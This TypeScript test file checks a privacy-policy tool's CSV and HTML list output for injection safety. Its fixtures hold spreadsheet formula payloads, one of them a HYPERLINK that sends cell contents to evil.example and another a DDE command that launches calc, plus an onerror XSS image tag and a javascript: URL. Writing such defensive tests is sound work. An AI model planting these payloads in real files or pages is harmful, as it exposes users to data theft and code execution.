// The two lists: as CSV, where a cell a spreadsheet would run as a formula is written as text (CSV
// injection, OWASP), and as the site's table rows.
import { describe, expect, it } from 'vitest';
import { compilePolicy } from '../../src/compile/compile.ts';
import { collectedCsv, collectedList, csvCell, sharedCsv, sharedList } from '../../src/publish/lists.ts';
import { listColumns, listRowsHtml } from '../../src/publish/list-table.ts';
import { root } from '../helpers.ts';
import type { Element } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { toText } from 'hast-util-to-text';
import { walk } from '../../src/util/walk.ts';

/** The cells of an RFC 4180 CSV (quotes undone). */
function cells(csv: string): string[] {
  const out: string[] = [];
  const pattern = /(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g;
  for (const line of csv.replace(/^\uFEFF/, '').trimEnd().split('\r\n')) {
    for (const match of line.matchAll(pattern)) out.push(match[1] !== undefined ? match[1].replace(/""/g, '"') : match[2]!);
  }
  return out;
}

const attacks = ['=HYPERLINK("https://evil.example/?"&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];

describe('the lists as CSV', async () => {
  const document = (await compilePolicy({ policyDir: 'policy', cwd: root })).document!;

  it('no cell starts with = + - @, a tab or a carriage return: each such cell gets a leading apostrophe and quotes', () => {
    const doc = structuredClone(document);
    doc.purposes.forEach((purpose, i) => {
      purpose.title = attacks[i % attacks.length]!;
      purpose.items.forEach((item, k) => (item.name = attacks[(i + k) % attacks.length]!));
    });
    doc.sdks.forEach((sdk, i) => {
      sdk.name = attacks[i % attacks.length]!;
      sdk.company!.name = attacks[(i + 1) % attacks.length]!;
    });
    for (const csv of [collectedCsv(collectedList(doc)), sharedCsv(sharedList(doc))]) {
      const all = cells(csv);
      expect(all.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      for (const attack of attacks) expect(all).toContain(`'${attack}`);
    }
  });

  it('leaves ordinary cells as they are', () => {
    expect(csvCell('手机号码')).toBe('手机号码');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('=1')).toBe(`"'=1"`);
    expect(csvCell('说"明"')).toBe('"说""明"""');
  });
});

describe('the lists as table rows (the site’s list pages)', async () => {
  const document = (await compilePolicy({ policyDir: 'policy', cwd: root })).document!;
  const rowsOf = (html: string) => {
    const table = fromHtml(`<table><tbody>${html}</tbody></table>`, { fragment: true });
    const rows: Element[] = [];
    walk<Element>(table, 'element', (node) => void (node.tagName === 'tr' && rows.push(node)));
    return rows;
  };
  const cellsOf = (row: Element) => row.children.filter((c): c is Element => c.type === 'element' && c.tagName === 'td');

  it('one row per list entry, each cell labelled with its column, sensitive items bold, permissions marked', () => {
    const list = collectedList(document);
    const rows = rowsOf(listRowsHtml('collected', document));
    expect(rows).toHaveLength(list.length);
    rows.forEach((row, i) => {
      const cells = cellsOf(row);
      expect(cells.map((cell) => cell.properties.dataLabel)).toEqual([...listColumns.collected]);
      expect(toText(cells[0]!)).toBe(list[i]!.item + (list[i]!.kind === 'permission' ? '（设备权限）' : ''));
      expect(cells[0]!.children.some((c) => c.type === 'element' && c.tagName === 'strong')).toBe(list[i]!.sensitive);
      expect(toText(cells[4]!)).toBe(list[i]!.sensitive ? '是' : '否');
    });
    expect(list.some((row) => row.sensitive) && list.some((row) => row.kind === 'permission')).toBe(true);
  });

  it('links a privacy policy only at an https address, and escapes whatever the policy names', () => {
    const doc = structuredClone(document);
    doc.sdks[0]!.name = '<img src=x onerror=alert(1)>';
    doc.sdks[0]!.privacyUrl = 'javascript:alert(1)';
    doc.sdks[1]!.privacyUrl = 'https://example.com/privacy?a=1&b="2"';
    const rows = rowsOf(listRowsHtml('shared', doc));
    expect(rows).toHaveLength(sharedList(doc).length);
    const [first, second] = rows.map(cellsOf);
    expect(toText(first![0]!)).toBe('<img src=x onerror=alert(1)>');
    expect(first![0]!.children.every((c) => c.type === 'text')).toBe(true);
    expect(first![5]!.children).toEqual([expect.objectContaining({ type: 'text', value: 'javascript:alert(1)' })]);
    const link = second![5]!.children[0] as Element;
    expect([link.tagName, link.properties.href]).toEqual(['a', 'https://example.com/privacy?a=1&b="2"']);
  });

  it('a list that changed gives its own rows, not those of the version before (each list is kept by its content)', () => {
    const before = listRowsHtml('collected', document);
    const doc = structuredClone(document);
    doc.purposes[0]!.items[0]!.name = '改过的名称';
    expect(listRowsHtml('collected', doc)).not.toBe(before);
    expect(listRowsHtml('collected', doc)).toContain('改过的名称');
    expect(listRowsHtml('collected', document)).toBe(before);
  });
});
